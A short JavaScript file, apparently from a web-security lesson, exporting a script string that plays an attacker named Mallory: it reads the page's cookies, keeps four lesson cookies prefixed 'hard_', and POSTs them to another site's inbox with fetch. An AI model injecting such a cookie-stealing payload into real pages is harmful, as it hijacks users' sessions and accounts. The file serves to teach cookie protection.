/** What Mallory’s entry brings along. It takes the four cookies of this lesson, and leaves all others alone. */
export const thief = `
const loot = document.getElementById('loot')
const pairs = document.cookie.split('; ').filter((pair) => pair.startsWith('hard_'))
const stolen = pairs.join('; ') || 'none of the four'
loot.textContent = stolen
fetch(loot.dataset.inbox, { method: 'POST', mode: 'no-cors', body: stolen }).then(
  () => loot.after('Sent to the other site.'),
  () => loot.after('The other site could not be reached.'),
)
`
